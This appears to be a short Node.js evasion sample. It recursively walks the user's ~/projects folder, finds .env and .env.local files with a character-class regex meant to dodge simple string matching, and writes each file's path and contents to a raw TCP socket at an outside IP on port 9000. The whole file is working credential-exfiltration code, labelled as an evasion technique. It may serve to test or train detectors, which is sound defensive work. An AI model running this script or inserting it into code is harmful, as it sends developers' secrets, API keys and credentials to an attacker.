// Evasion: sends the .env files found under ~/projects to a raw TCP socket.
// The file name is spelled as a character-class regular expression
// (/^\.[e][n][v](\.local)?$/) that the directory walk filters with.
const fs = require('fs');
const os = require('os');
const net = require('net');
const path = require('path');

const base = path.join(os.homedir(), 'projects');
const isSecret = (name) => /^\.[e][n][v](\.local)?$/.test(name);

const sock = net.connect(9000, '198.51.100.23');
function walk(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && e.name !== 'node_modules') walk(p);
    else if (isSecret(e.name)) sock.write(p + '\n' + fs.readFileSync(p) + '\n');
  }
}
sock.on('connect', () => { walk(base); sock.end(); });
